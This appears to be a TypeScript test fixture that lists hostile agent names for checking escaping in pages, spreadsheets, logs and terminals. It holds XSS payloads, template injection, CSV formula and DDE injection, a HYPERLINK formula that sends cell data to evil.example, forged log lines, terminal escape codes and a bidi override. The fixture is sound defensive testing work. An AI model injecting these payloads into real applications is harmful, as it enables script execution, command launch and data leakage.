/** Names that people gave their agents: pages, spreadsheets, logs and terminals must take them as names. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</td></table><iframe src="javascript:alert(1)">',
  '<style>@import "//evil.example"</style>',
  '&lt;script&gt;',
  '<!--',
  '{{constructor.constructor("alert(1)")()}}',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.example/"&A1)',
  "=cmd|'/C calc'!A0",
  '+1+cmd|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '"=1+1',
  'a","=1+1',
  'a\r\n=1+1,b',
  'x\n{"level":50,"msg":"forged"}',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u202eevil\u202c',
  '\u0000',
] as const;

/** What a spreadsheet takes as the beginning of a formula. */
export const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
